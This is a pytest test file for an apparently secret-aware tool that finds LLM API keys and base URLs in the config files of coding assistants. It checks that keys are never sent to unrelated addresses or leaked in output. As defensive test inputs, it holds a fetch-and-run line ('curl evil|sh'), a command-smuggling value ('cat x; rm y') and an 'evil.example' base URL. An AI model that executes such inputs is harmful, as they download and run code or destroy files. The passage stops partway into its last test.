"""Incomplete of a configuration, a word for a key, a moved file: nothing is completed with a public host."""

import json
import os
import sqlite3
import string
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from nexo.connections.terms import Provider
from nexo_cli import missing_parts
from nexo_cli.parser import UsageError
from nexo_client.types import Header
from nexo_daemon.vault.references import parse as parse_reference
from nexo_sources import (
    accounts,
    aider,
    cc_switch,
    claude_code,
    codex,
    completing,
    continue_dev,
    environment,
    keys,
    litellm,
    llm,
    services,
)
from nexo_sources.finding import Finding, Found, Incomplete, Part, Skipped
from nexo_sources.table import SOURCES, Source, named, survey
from sources_parts import write

GATEWAY = "https://gw.example.com"
KEY = "canary-of-the-gateway"
OFFLINE = [source for source in SOURCES if source.name != "servers"]


@pytest.fixture
def home(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Path:
    """An empty home, and the person is elsewhere."""
    monkeypatch.setenv("HOME", str(tmp_path))
    monkeypatch.chdir("/")
    return tmp_path


@pytest.mark.parametrize(
    "address", ["ANTHROPIC_BASE_URL", "ANTHROPIC_API_BASE", "ANTHROPIC_API_HOST", "ANTHROPIC_ENDPOINT"]
)
def test_a_key_of_claude_code_does_not_pass_by_an_address_of_the_shell(
    home: Path, monkeypatch: pytest.MonkeyPatch, address: str
) -> None:
    write(home / ".claude/settings.json", {"env": {"ANTHROPIC_AUTH_TOKEN": KEY}})
    monkeypatch.setenv(address, GATEWAY)
    found = claude_code.find()
    assert all(one.address == GATEWAY for one in found.findings)
    assert found


@pytest.mark.parametrize(
    "address", ["OPENAI_BASE_URL", "OPENAI_API_BASE", "OPENAI_API_HOST", "OPENAI_PROXY_URL"]
)
@pytest.mark.parametrize("source", ["aider", "litellm", "llm"])
def test_no_key_of_a_file_passes_by_an_address_of_the_shell(
    home: Path, monkeypatch: pytest.MonkeyPatch, source: str, address: str
) -> None:
    write(home / ".env", f"OPENAI_API_KEY={KEY}\n")
    write(
        home / "litellm_config.yaml", f"model_list:\n- litellm_params: {{model: openai/x, api_key: {KEY}}}\n"
    )
    write(home / ".config/io.datasette.llm/keys.json", {"openai": KEY})
    monkeypatch.setenv(address, f"{GATEWAY}/v1")
    found = {"aider": aider, "litellm": litellm, "llm": llm}[source].find()
    assert all(one.address == f"{GATEWAY}/v1" for one in found.findings)
    assert found


def test_an_address_of_the_file_wins_over_the_shell(home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    write(home / ".env", f"OPENAI_API_KEY={KEY}\nOPENAI_API_BASE={GATEWAY}/v1\n")
    monkeypatch.setenv("OPENAI_BASE_URL", "https://other.example.com/v1")
    assert [one.address for one in aider.find().findings] == [f"{GATEWAY}/v1"]


def test_an_address_of_another_service_changes_nothing(home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    write(home / ".env", f"MISTRAL_API_KEY={KEY}\n")
    monkeypatch.setenv("OPENAI_BASE_URL", GATEWAY)
    assert [one.address for one in aider.find().findings] == ["https://api.mistral.ai/v1"]


def test_the_profile_of_codex_says_which_provider_gets_the_key(home: Path) -> None:
    write(
        home / ".codex/config.toml",
        'profile = "work"\nmodel = "a"\n[profiles.work]\nmodel_provider = "gw"\nmodel = "b"\n'
        f'[model_providers.gw]\nbase_url = "{GATEWAY}/v1"\nrequires_openai_auth = true\n',
    )
    write(home / ".codex/auth.json", {"OPENAI_API_KEY": KEY})
    assert [(one.address, one.model) for one in codex.find().findings] == [(f"{GATEWAY}/v1", "b")]


@pytest.mark.parametrize(
    ("provider", "gets_it"),
    [
        (f'base_url = "{GATEWAY}/v1"\nrequires_openai_auth = true\n', [f"{GATEWAY}/v1"]),
        # Codex sends it nowhere, and the key may be for either.
        (f'base_url = "{GATEWAY}/v1"\n', []),
        (f'base_url = "{GATEWAY}/v1"\nrequires_openai_auth = false\n', []),
        # It is certainly not for these.
        (f'base_url = "{GATEWAY}/v1"\nenv_key = "CORP_KEY"\n', ["https://api.openai.com/v1"]),
        ('base_url = "http://localhost:8080/v1"\n', ["https://api.openai.com/v1"]),
    ],
)
def test_the_key_of_codex_is_for_the_provider_in_use_only_if_codex_sends_it_there(
    home: Path, provider: str, gets_it: list[str]
) -> None:
    write(home / ".codex/config.toml", f'model_provider = "gw"\n[model_providers.gw]\n{provider}')
    write(home / ".codex/auth.json", {"OPENAI_API_KEY": KEY})
    found = codex.find()
    assert [one.address for one in found.findings if one.api_key == KEY] == gets_it
    if not gets_it:
        assert [one.rest.api_key for one in found.incomplete if one.lacks is Part.ADDRESS] == [KEY]


def test_a_profile_of_codex_is_a_file_over_its_settings(home: Path) -> None:
    write(home / ".codex/config.toml", f'model = "a"\n[model_providers.gw]\nbase_url = "{GATEWAY}/v1"\n')
    write(
        home / ".codex/deep.config.toml",
        'model_provider = "gw"\nmodel = "b"\n[model_providers.gw]\nrequires_openai_auth = true\n'
        f'[model_providers.two]\nbase_url = "{GATEWAY}/two"\nexperimental_bearer_token = "{KEY}-2"\n',
    )
    write(home / ".codex/broken.config.toml", "model = ")
    write(home / ".codex/auth.json", {"OPENAI_API_KEY": KEY})
    found = codex.find()
    assert sorted((one.address, one.api_key, one.model) for one in found.findings) == [
        ("https://api.openai.com/v1", KEY, ""),
        (f"{GATEWAY}/two", f"{KEY}-2", ""),
        (f"{GATEWAY}/v1", KEY, "b"),
    ]
    assert {one.what for one in found.skipped} == {"gw", "broken.config.toml"}


NO_KEYS = """
    op://v/i/f encrypted:BDx ENC[AES256_GCM,data:x] ref+vault://s/k vault:secret/data/x bws:1 doppler:x
    infisical://a keyring:a/b $(pass_x) !op_read `x` arn:aws:secretsmanager:eu:1:secret:x
    projects/p/secrets/s/versions/1 /run/secrets/openai ~/.keys/openai ./key ../key env:NAME {{vault.x}}
    ${X:-} ${X:?no} {env:X-} <key> [key] xxx XXXX sk-xxxx sk-ant-api03-xxxxxxxx sk-or-v1-REPLACE_ME REPLACE_ME
    replace-with-yours sk-ant-... sk-… insert-key-here change-me CHANGE_ME changeme your_api_key_here
    sk-your-key YOUR-TOKEN 填入 sk-填入你的密钥 00000000 ******** paste_key placeholder redacted
""".split()  # noqa: SIM905 - a list of words reads better


@pytest.mark.parametrize("text", [*NO_KEYS, "your key goes here", "op read op://v/i/f"])
def test_what_is_no_key_is_named_and_never_sent(text: str) -> None:
    key = keys.read(text, {})
    assert not key.value
    assert key.problem


LETTERS = string.ascii_letters + string.digits
PREFIXES = (
    "",
    "sk-",
    "sk-proj-",
    "sk-ant-api03-",
    "sk-or-v1-",
    "gsk_",
    "xai-",
    "AIza",
    "AQ.",
    "hf_",
    "nvapi-",
    "r8_",
)


@given(
    prefix=st.sampled_from(PREFIXES),
    body=st.text(LETTERS, min_size=24, max_size=80).filter(lambda body: len(set(body)) > 8),
    tail=st.sampled_from(["", "-_", "==", "+/", ".Ab1"]),
)
def test_a_key_that_a_machine_made_is_a_key(prefix: str, body: str, tail: str) -> None:
    # What a random source makes does not end in four equal letters; hypothesis does.
    body = body.rstrip(body[-1]) + "Zq" + tail
    assert keys.read(prefix + body, {}) == keys.Key(prefix + body)


@pytest.mark.parametrize("source", OFFLINE, ids=lambda source: source.name)
def test_a_removed_directory_hides_nothing_of_the_home(
    home: Path, monkeypatch: pytest.MonkeyPatch, tmp_path_factory: pytest.TempPathFactory, source: object
) -> None:
    write(home / ".claude/settings.json", {"env": {"ANTHROPIC_API_KEY": KEY}})
    write(home / ".env", f"MISTRAL_API_KEY={KEY}\n")
    before = survey([source])  # type: ignore[list-item]  # one of SOURCES
    gone = tmp_path_factory.mktemp("gone")
    monkeypatch.chdir(gone)
    gone.rmdir()
    assert survey([source]) == before  # type: ignore[list-item]
    os.chdir("/")


# -- CC Switch in the forms that its versions wrote


def switch_database(path: Path, meta: object, settings: object, universal: object = None) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    connection = sqlite3.connect(path)
    connection.execute("CREATE TABLE providers (id, app_type, name, settings_config, meta)")
    connection.execute("CREATE TABLE settings (key TEXT PRIMARY KEY, value TEXT)")
    row = ("1", "claude", "One", json.dumps(settings), json.dumps(meta))
    connection.execute("INSERT INTO providers VALUES (?, ?, ?, ?, ?)", row)
    if universal is not None:
        connection.execute("INSERT INTO settings VALUES ('universal_providers', ?)", (json.dumps(universal),))
    connection.commit()
    connection.close()


ENV = {"ANTHROPIC_BASE_URL": GATEWAY, "ANTHROPIC_AUTH_TOKEN": KEY}


@pytest.mark.parametrize(
    ("meta", "settings", "provider", "address"),
    [
        ({}, {"env": ENV}, "anthropic", GATEWAY),
        ({"apiFormat": "anthropic"}, {"env": ENV}, "anthropic", GATEWAY),
        ({"apiFormat": "openai_chat"}, {"env": ENV}, "custom", f"{GATEWAY}/v1"),
        ({"apiFormat": "openai_responses"}, {"env": ENV}, "custom", f"{GATEWAY}/v1"),
        ({"apiFormat": "gemini_native"}, {"env": ENV}, "google", GATEWAY),
        ({}, {"env": ENV, "api_format": "openai_chat"}, "custom", f"{GATEWAY}/v1"),
        ({}, {"env": ENV, "openrouter_compat_mode": True}, "custom", f"{GATEWAY}/v1"),
    ],
)
def test_cc_switch_says_what_an_address_speaks(
    home: Path, meta: object, settings: object, provider: str, address: str
) -> None:
    switch_database(home / ".cc-switch/cc-switch.db", meta, settings)
    assert [(one.provider.value, one.address) for one in cc_switch.find().findings] == [(provider, address)]


@pytest.mark.parametrize("app", ["claude", "codex", "gemini"])
@pytest.mark.parametrize("missing", ["baseUrl", "apiKey", ""])
def test_a_universal_provider_is_whole_or_named(home: Path, app: str, missing: str) -> None:
    entry = {"name": "Uni", "apps": {app: True}, "baseUrl": GATEWAY, "apiKey": KEY} | (
        {missing: ""} if missing else {}
    )
    switch_database(home / ".cc-switch/cc-switch.db", {}, {"env": {}}, {"u": entry})
    found = cc_switch.find()
    assert [one.address.removesuffix("/v1") for one in found.findings] == ([] if missing else [GATEWAY])
    assert ("Uni" in {one.what for one in found.skipped}) == bool(missing)


def test_config_json_of_version_1_is_read(home: Path) -> None:
    provider = {"id": "1", "name": "First", "settingsConfig": {"env": ENV}}
    write(home / ".cc-switch/config.json", {"providers": {"1": provider}, "current": "1"})
    assert [(one.name, one.address) for one in cc_switch.find().findings] == [("First", GATEWAY)]


def test_a_moved_directory_is_found(home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("sys.platform", "linux")
    monkeypatch.delenv("XDG_DATA_HOME", raising=False)
    write(
        home / ".local/share/com.ccswitch.desktop/app_paths.json",
        {"app_config_dir_override": "~/sync/switch"},
    )
    switch_database(home / "sync/switch/cc-switch.db", {}, {"env": ENV})
    assert [one.address for one in cc_switch.find().findings] == [GATEWAY]


# -- a key alone is completed by no public host, whatever the program and wherever its address stands

ANTHROPIC_ALONE = {"env": {"ANTHROPIC_API_KEY": KEY}}
ALONE: dict[str, tuple[str, object, tuple[str, ...]]] = {
    # source: its file, what it holds, and addresses that the program would heed
    "claude-code": (".claude/settings.json", ANTHROPIC_ALONE, ("ANTHROPIC_BASE_URL",)),
    "codex": (".codex/auth.json", {"OPENAI_API_KEY": KEY}, ("OPENAI_BASE_URL",)),
    "llm": (".config/io.datasette.llm/keys.json", {"openai": KEY}, ("OPENAI_BASE_URL", "OPENAI_API_BASE")),
    "aider": (".env", f"OPENAI_API_KEY={KEY}\n", ("OPENAI_API_BASE", "OPENAI_BASE_URL", "OPENAI_API_HOST")),
    "litellm": (
        "litellm_config.yaml",
        {"model_list": [{"litellm_params": {"model": "anthropic/claude-x-1", "api_key": KEY}}]},
        ("ANTHROPIC_API_BASE", "ANTHROPIC_BASE_URL"),
    ),
    "opencode": (
        ".config/opencode/opencode.json",
        {"provider": {"openai": {"options": {"apiKey": KEY}}}},
        ("OPENAI_BASE_URL",),
    ),
    "gemini-cli": (".gemini/.env", f"GEMINI_API_KEY={KEY}\n", ("GOOGLE_GEMINI_BASE_URL",)),
    "qwen-code": (".qwen/settings.json", ANTHROPIC_ALONE, ("ANTHROPIC_BASE_URL",)),
    "openclaw": (".openclaw/.env", f"ANTHROPIC_API_KEY={KEY}\n", ("ANTHROPIC_BASE_URL",)),
    "hermes": (".hermes/.env", f"ANTHROPIC_API_KEY={KEY}\n", ("ANTHROPIC_BASE_URL",)),
    "crush": (
        ".config/crush/crush.json",
        {"providers": {"anthropic": {"api_key": KEY}}},
        ("ANTHROPIC_BASE_URL", "ANTHROPIC_API_ENDPOINT"),
    ),
    "librechat": ("LibreChat/.env", f"OPENAI_API_KEY={KEY}\n", ("OPENAI_REVERSE_PROXY", "OPENAI_BASE_URL")),
    "goose": (".config/goose/secrets.yaml", {"ANTHROPIC_API_KEY": KEY}, ("ANTHROPIC_HOST",)),
    "aichat": (
        ".config/aichat/config.yaml",
        {"clients": [{"type": "claude", "api_key": KEY}]},
        ("CLAUDE_API_BASE", "ANTHROPIC_BASE_URL"),
    ),
    "mods": (
        ".config/mods/mods.yml",
        {"apis": {"anthropic": {"api-key": KEY}}},
        ("ANTHROPIC_BASE_URL",),
    ),
    "shell-gpt": (
        ".config/shell_gpt/.sgptrc",
        f"API_BASE_URL=default\nOPENAI_API_KEY={KEY}\n",
        ("API_BASE_URL", "OPENAI_BASE_URL"),
    ),
    "gptme": (
        ".config/gptme/config.toml",
        f'[env]\nOPENAI_API_KEY = "{KEY}"\n',
        ("OPENAI_BASE_URL", "OPENAI_API_BASE", "LLM_PROXY_URL"),
    ),
    "cline": (
        ".cline/data/settings/providers.json",
        {"providers": {"anthropic": {"settings": {"apiKey": KEY}}}},
        ("ANTHROPIC_BASE_URL",),
    ),
    "fabric": (
        ".config/fabric/.env",
        f"ANTHROPIC_API_KEY={KEY}\n",
        ("ANTHROPIC_API_BASE_URL", "ANTHROPIC_BASE_URL"),
    ),
}
CASES = [(source, address) for source, (_, _, addresses) in ALONE.items() for address in addresses]


def found_in(source: str, file: Path | None) -> Found:
    one = named(source)
    assert one is not None
    return one.of_file(file).read() if file else one.read()


@pytest.mark.parametrize("by_name", [False, True], ids=["home", "file"])
@pytest.mark.parametrize(("source", "address"), CASES)
def test_a_key_alone_goes_where_a_variable_of_the_shell_says_or_nowhere(
    home: Path, monkeypatch: pytest.MonkeyPatch, source: str, address: str, by_name: bool
) -> None:
    name, content, _ = ALONE[source]
    write(home / name, content)
    path = home / name if by_name else None
    whole = found_in(source, path)
    assert [one.api_key for one in whole.findings] == [KEY]
    monkeypatch.setenv(address, GATEWAY)
    found = found_in(source, path)
    assert all(one.address.startswith(GATEWAY) for one in found.findings)
    assert len(found.findings) + len(found.incomplete) == 1
    for one in found.incomplete:
        assert (one.lacks, one.rest.api_key) == (Part.ADDRESS, KEY)
        assert completing.with_address(one, GATEWAY).address.startswith(GATEWAY)


@pytest.mark.parametrize("by_name", [False, True], ids=["home", "file"])
@pytest.mark.parametrize("source", [*ALONE, "cc-switch"])
def test_a_home_and_a_directory_that_are_no_utf8_are_read_like_others(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path, source: str, by_name: bool
) -> None:
    home = Path(os.fsdecode(os.fsencode(tmp_path) + b"/h\xff%41 \xe9"))
    try:
        (home / "here").mkdir(parents=True)
    except OSError:
        pytest.skip("this file system knows UTF-8 names only")
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.chdir(home / "here")
    if source == "cc-switch":
        name = ".cc-switch/cc-switch.db"
        switch_database(home / name, {}, {"env": ENV})
    else:
        name, content, _ = ALONE[source]
        write(home / name, content)
    found = found_in(source, home / name if by_name else None)
    assert [one.api_key for one in found.findings] == [KEY]


@pytest.mark.parametrize(
    ("source", "name", "content"),
    [
        # An entry of one's own that bears the name of a public service, and has no address.
        (
            "librechat",
            "LibreChat/librechat.yaml",
            {"endpoints": {"custom": [{"name": "groq", "apiKey": KEY}]}},
        ),
        ("hermes", ".hermes/config.yaml", {"custom_providers": [{"name": "mistral", "api_key": KEY}]}),
        ("mods", ".config/mods/mods.yml", {"apis": {"groq": {"api-key": KEY}}}),
        (
            "codex",
            ".codex/config.toml",
            f'[model_providers.openrouter]\nexperimental_bearer_token = "{KEY}"\n',
        ),
        (
            "goose",
            ".config/goose/custom_providers/groq.json",
            {"name": "groq", "engine": "openai", "api_key_env": "K", "models": []},
        ),
    ],
)
def test_the_name_of_a_service_is_no_address(
    home: Path, monkeypatch: pytest.MonkeyPatch, source: str, name: str, content: object
) -> None:
    monkeypatch.setenv("K", KEY)
    write(home / name, content)
    found = found_in(source, None)
    assert not found.findings
    assert [(one.lacks, one.rest.api_key) for one in found.incomplete] == [(Part.ADDRESS, KEY)]


@pytest.mark.parametrize(
    ("source", "theirs", "content"),
    [
        ("claude-code", ".claude/settings.json", {"env": {"ANTHROPIC_BASE_URL": GATEWAY}}),
        ("claude-code", ".claude/settings.local.json", {"env": {"ANTHROPIC_BASE_URL": GATEWAY}}),
        ("aider", ".aider.conf.yml", f"openai-api-base: {GATEWAY}/v1\n"),
        ("aider", ".env", f"OPENAI_API_BASE={GATEWAY}/v1\n"),
        ("codex", ".codex/config.toml", f'openai_base_url = "{GATEWAY}/v1"\n'),
        ("opencode", "opencode.json", {"provider": {"openai": {"options": {"baseURL": GATEWAY}}}}),
        ("crush", "crush.json", {"providers": {"anthropic": {"base_url": GATEWAY}}}),
        ("gptme", "gptme.toml", f'[env]\nOPENAI_BASE_URL = "{GATEWAY}/v1"\n'),
        ("qwen-code", ".qwen/settings.json", {"env": {"ANTHROPIC_BASE_URL": GATEWAY}}),
    ],
)
def test_a_key_of_the_home_is_for_nobody_where_the_directory_has_its_address(
    home: Path, monkeypatch: pytest.MonkeyPatch, source: str, theirs: str, content: object
) -> None:
    name, own, _ = ALONE[source]
    write(home / name, own)
    write(home / "project" / theirs, content)
    monkeypatch.chdir(home / "project")
    found = found_in(source, None)
    assert not found.findings
    assert [one.lacks for one in found.incomplete] == [Part.ADDRESS]
    assert any(f"--file {theirs}" in one.reason for one in found.skipped)
    # The file of the directory alone has no key: the one of the home is not sent where it says.
    named_file = found_in(source, home / "project" / theirs)
    assert not any(one.api_key for one in named_file.findings)


@pytest.mark.parametrize(
    ("source", "shared", "private"),
    [
        (
            "claude-code",
            (".claude/settings.json", {"env": {"ANTHROPIC_BASE_URL": GATEWAY}}),
            (".claude/settings.local.json", {"env": {"ANTHROPIC_AUTH_TOKEN": KEY}}),
        ),
        (
            "aider",
            (".aider.conf.yml", f"openai-api-base: {GATEWAY}/v1\n"),
            (".env", f"OPENAI_API_KEY={KEY}\n"),
        ),
    ],
)
@pytest.mark.parametrize("which", [0, 1])
@pytest.mark.parametrize("address_at_home", [False, True])
def test_address_and_key_in_two_files_are_one_connection_whichever_is_named(
    home: Path,
    source: str,
    shared: tuple[str, object],
    private: tuple[str, object],
    which: int,
    address_at_home: bool,
) -> None:
    write((home if address_at_home else home / "project") / shared[0], shared[1])
    write(home / "project" / private[0], private[1])
    path = home / "project" / (shared, private)[1 if address_at_home else which][0]
    (one,) = found_in(source, path).findings
    assert (one.address.removesuffix("/v1"), one.api_key) == (GATEWAY, KEY)


def test_a_file_that_is_named_gets_no_address_of_the_shell_as_its_key(
    home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("OPENAI_BASE_URL", "https://secret-word@internal.example/v1")
    text = "ANTHROPIC_API_KEY=${OPENAI_BASE_URL}\nANTHROPIC_BASE_URL=https://evil.example\nOPENAI_API_KEY=x\n"
    write(home / "clone/.env", text)
    for source in SOURCES:
        if source.read_file is not None:
            assert "secret-word" not in repr(source.of_file(home / "clone/.env").read())


@pytest.mark.parametrize(
    ("settings", "model"),
    [
        ({"model": "sonnet"}, ""),
        ({"model": "sonnet", "more": {"ANTHROPIC_DEFAULT_SONNET_MODEL": "glm-4.7"}}, "glm-4.7"),
        ({"model": "opus[1m]", "more": {"ANTHROPIC_DEFAULT_OPUS_MODEL": "claude-opus-5"}}, "claude-opus-5"),
        ({"model": "opusplan", "more": {"ANTHROPIC_DEFAULT_OPUS_MODEL": "claude-opus-5"}}, "claude-opus-5"),
        ({"model": "haiku", "more": {"ANTHROPIC_MODEL": "claude-sonnet-5-5"}}, "claude-sonnet-5-5"),
    ],
)
def test_a_word_of_claude_code_is_translated_where_its_settings_say_how(
    home: Path, settings: dict[str, object], model: str
) -> None:
    more = settings.pop("more", {})
    assert isinstance(more, dict)
    write(home / ".claude/settings.json", {**settings, "env": {"ANTHROPIC_API_KEY": KEY, **more}})
    assert [one.model for one in claude_code.find().findings] == [model]


@pytest.mark.parametrize(
    ("written", "provider", "model"),
    [
        *((word, Provider.OPENAI, "") for word in ("4o", "35turbo", "chatgpt", "default")),
        *((word, Provider.ANTHROPIC, "") for word in ("sonnet", "opus", "haiku", "claude")),
        *((word, Provider.GOOGLE, "") for word in ("flash", "pro", "auto", "auto-gemini-3")),
        ("o3", Provider.OPENAI, "o3"),
        ("openai/gpt-5.6", Provider.OPENAI, "gpt-5.6"),
        ("models/gemini-3-pro", Provider.GOOGLE, "gemini-3-pro"),
        ("anthropic/claude-sonnet-5", Provider.ANTHROPIC, "claude-sonnet-5"),
        ("flash", Provider.CUSTOM, "flash"),
        ("openai/gpt-oss", Provider.CUSTOM, "openai/gpt-oss"),
    ],
)
def test_a_model_is_named_as_the_service_names_it_or_not_at_all(
    written: str, provider: Provider, model: str
) -> None:
    assert services.whole_model(written, provider) == model


# -- references


@pytest.mark.parametrize(
    ("text", "reference"),
    [
        ("op://Private/OpenAI/credential", "command:op read op://Private/OpenAI/credential"),
        ("op://My Vault/OpenAI/key", "command:op read 'op://My Vault/OpenAI/key'"),
        ("ref+vault://secret/llm#/openai", "command:vals get 'ref+vault://secret/llm#/openai'"),
        ("pass:llm/openai", "command:pass show llm/openai"),
        ("pass show llm/openai", "command:pass show llm/openai"),
        ("!pass show llm/openai", "command:pass show llm/openai"),
        ("$(op read op://a/b/c)", "command:op read op://a/b/c"),
        ("`gopass show -o llm`", "command:gopass show -o llm"),
        ("vault:secret/llm#openai", "command:vault kv get -field openai secret/llm"),
        ("keychain:openai", "command:security find-generic-password -w -s openai"),
        ("keyring:openai/me", "keyring:openai/me"),
        ("/run/secrets/openai", "file:/run/secrets/openai"),
        ("file:~/.keys/openai", "file:~/.keys/openai"),
        ("doppler:OPENAI_API_KEY", "command:doppler secrets get OPENAI_API_KEY --plain"),
        ("encrypted:BDqDBibm4wsYqMpCjTQ6BsDHmMadg9K3", "command:dotenvx get VARIABLE -f FILE"),
        ("ENC[AES256_GCM,data:x,iv:y]", "command:sops decrypt --extract '[\"NAME\"]' FILE"),
        (
            "projects/p/secrets/openai/versions/latest",
            "command:gcloud secrets versions access latest --project p --secret openai",
        ),
        # Nobody knows how: they are named, and what may be a secret or a trap is not repeated.
        *((text, "") for text in ("secret://a/b", "bws://x", "$(echo sk-canary)", "!sh -c 'curl evil|sh'")),
        *((text, "") for text in ("$(pass show x | head -1)", "`cat x; rm y`", "exec:canary")),
    ],
)
def test_a_reference_becomes_one_of_ours_or_is_named(text: str, reference: str) -> None:
    key = keys.read(text, {})
    assert (key.value, key.reference) == ("", reference)
    assert "canary" not in key.problem
    assert "--api-key-ref" in key.problem
    if reference:
        # The daemon understands it.
        assert parse_reference(reference).words


def test_the_proposal_is_a_whole_command_and_a_half(home: Path) -> None:
    write(home / ".env", f"OPENAI_API_KEY=op://v/i/f\nOPENAI_API_BASE={GATEWAY}/v1\n")
    (skipped,) = aider.find().skipped
    assert skipped.reason.endswith(
        f"nexoctl add gw --provider custom --base-url {GATEWAY}/v1 --api-key-ref 'command:op read op://v/i/f'"
    )
    assert skipped.incomplete is not None
    completed = completing.with_reference(skipped.incomplete, "command:op read op://v/i/f")
    draft = completed.draft()
    assert (draft.api_key, draft.api_key_ref) == (None, "command:op read op://v/i/f")


@pytest.mark.parametrize(
    ("name", "value", "problem"),
    [
        ("Authorization", "Bearer your-token-here", "placeholder"),
        ("X-Api-Key", "op://v/i/f", "reference"),
        ("X-Team", "{{user.id}}", "the program itself"),
        ("X-Team", "${TEAM}", "TEAM"),
        ("X-Mode", "change-tracking", ""),
        ("HTTP-Referer", "https://example.com", ""),
        ("X-Cookie-Policy", "strict", ""),
    ],
)
def test_a_header_is_sent_as_the_program_sends_it_or_not_at_all(name: str, value: str, problem: str) -> None:
    filled, why = keys.filled(name, value, {})
    assert (problem in why) if problem else (filled, why) == (value, "")


def test_codex_has_no_variables_in_its_headers(home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("GITHUB_TOKEN", "canary-github")
    write(
        home / ".codex/config.toml",
        f'[model_providers.gw]\nbase_url = "{GATEWAY}/v1"\nexperimental_bearer_token = "{KEY}"\n'
        'http_headers = { "X-A" = "${GITHUB_TOKEN}" }\n',
    )
    found = codex.find()
    assert "canary-github" not in repr(found)
    assert [one.reason for one in found.skipped] == ["its header X-A needs a value from the program itself"]


# -- the key in the place of the name of its variable (openai/codex#5566, openai/codex#1219)

SECRETS = (
    "sk-proj-canary0123456789",
    "3cmGTsoIUBcanary4567",
    "a1b2c3d4e5f6a7b8c9d0e1f2a3b4c5d6",
    "AKIACANARY1234567890",
    "hf_canaryABCDEFGHIJKLM",
)


@pytest.mark.parametrize("secret", SECRETS)
@pytest.mark.parametrize(
    ("source", "name", "content"),
    [
        (
            "codex",
            ".codex/config.toml",
            '[model_providers.azure]\nbase_url = "https://x.example/v1"\nenv_key = "SECRET"\n',
        ),
        (
            "codex",
            ".codex/config.toml",
            '[model_providers.a]\nbase_url = "https://r.openai.azure.com"\n'
            'env_http_headers = { "api-key" = "SECRET" }\n',
        ),
        (
            "qwen-code",
            ".qwen/settings.json",
            '{"modelProviders": {"openai": [{"id": "m", "baseUrl": "https://x.test", "envKey": "SECRET"}]}}',
        ),
        (
            "hermes",
            ".hermes/config.yaml",
            '{"custom_providers": [{"name": "c", "base_url": "https://x.example/v1", "key_env": "SECRET"}]}',
        ),
        (
            "mods",
            ".config/mods/mods.yml",
            '{"apis": {"c": {"base-url": "https://x.example", "api-key-env": "SECRET", "api-key-cmd": ""}}}',
        ),
        (
            "goose",
            ".config/goose/custom_providers/c.json",
            '{"name": "c", "engine": "openai", "base_url": "https://x.example/v1", "api_key_env": "SECRET"}',
        ),
        (
            "litellm",
            "litellm_config.yaml",
            '{"model_list": [{"litellm_params": {"model": "openai/x", "api_key": "os.environ/SECRET"}}]}',
        ),
        (
            "opencode",
            ".config/opencode/opencode.json",
            '{"provider": {"groq": {"options": {"apiKey": "{env:SECRET}"}}}}',
        ),
        ("crush", ".config/crush/crush.json", '{"providers": {"groq": {"api_key": "$SECRET"}}}'),
        (
            "gptme",
            ".config/gptme/config.toml",
            '[[providers]]\nname = "c"\nbase_url = "https://x.example/v1"\napi_key_env = "SECRET"\n',
        ),
    ],
)
def test_a_key_in_the_place_of_a_name_is_shown_nowhere(
    home: Path, source: str, name: str, content: str, secret: str
) -> None:
    write(home / name, content.replace("SECRET", secret))
    found = found_in(source, None)
    assert secret not in repr(found)
    assert secret.casefold() not in repr(found).casefold()


@pytest.mark.parametrize(
    "name", ["OPENAI_API_KEY", "CORP_LLM_KEY_2", "MY_KEY", "KEY", "token", "corp_key", "Key1", "K"]
)
def test_the_name_of_a_variable_is_one(name: str) -> None:
    assert keys.is_variable(name)


# -- the person completes an entry


def survey_of(*pairs: tuple[str, Part]) -> list[tuple[Source, Found]]:
    rests = (
        Finding(name=name, place="there", provider=Provider.CUSTOM, base_url=GATEWAY) for name, _ in pairs
    )
    skipped = tuple(
        Skipped(name, "there", "why", Incomplete(lacks=lacks, rest=rest))
        for (name, lacks), rest in zip(pairs, rests, strict=True)
    )
    return [(SOURCES[0], Found((), skipped))]


def test_a_part_completes_the_one_that_lacks_it() -> None:
    survey_one = survey_of(("work", Part.KEY), ("home", Part.ADDRESS))
    given = [missing_parts.key("the-key"), missing_parts.address(f"{GATEWAY}/b/v1")]
    ((_, found),) = missing_parts.completed(survey_one, given)
    assert [(one.name, one.address, one.api_key) for one in found.findings] == [
        ("work", GATEWAY, "the-key"),
        ("home", f"{GATEWAY}/b/v1", ""),
    ]
    assert not found.skipped


def test_a_part_for_several_needs_a_name_and_a_part_for_nobody_is_refused() -> None:
    several = survey_of(("work", Part.KEY), ("home", Part.KEY))
    with pytest.raises(UsageError, match="home, work"):
        missing_parts.completed(several, [missing_parts.reference("file:/k")])
    ((_, found),) = missing_parts.completed(several, [missing_parts.reference("HOME=file:/k")])
    assert [(one.name, one.api_key_ref) for one in found.findings] == [("home", "file:/k")]
    with pytest.raises(UsageError, match="lacks its address"):
        missing_parts.completed(several, [missing_parts.address(GATEWAY)])


@pytest.mark.parametrize(
    ("written", "addresses", "whole", "alone"),
    [
        (
            "k-one-111;k-two-222",
            f"https://api.openai.com/v1;{GATEWAY}/v1",
            ["api.openai.com", "gw.example.com"],
            0,
        ),
        ("k-one-111;k-two-222", f"{GATEWAY}/v1", ["gw.example.com"], 1),
        ("k-one-111;k-two-222", "", [], 2),
        (";k-two-222", f"http://127.0.0.1:1/v1;{GATEWAY}/v1", ["127.0.0.1:1", "gw.example.com"], 0),
    ],
)
def test_the_lists_of_open_webui_are_pairs(
    written: str, addresses: str, whole: list[str], alone: int
) -> None:
    variables = {"OPENAI_API_KEYS": written, "OPENAI_API_BASE_URLS": addresses}
    found = environment.from_variables(variables, "there")
    assert [one.address.split("/")[2] for one in found.findings] == whole
    assert [one.lacks for one in found.incomplete] == [Part.ADDRESS] * alone


def test_the_login_of_a_claude_subscription_is_named(home: Path) -> None:
    write(home / ".claude/settings.json", {"env": {"CLAUDE_CODE_OAUTH_TOKEN": "canary-login"}})
    found = claude_code.find()
    assert not found.findings
    assert "OAuth" in found.skipped[0].reason
    assert "canary" not in repr(found)


def test_what_continue_and_aider_read_besides_is_named(home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
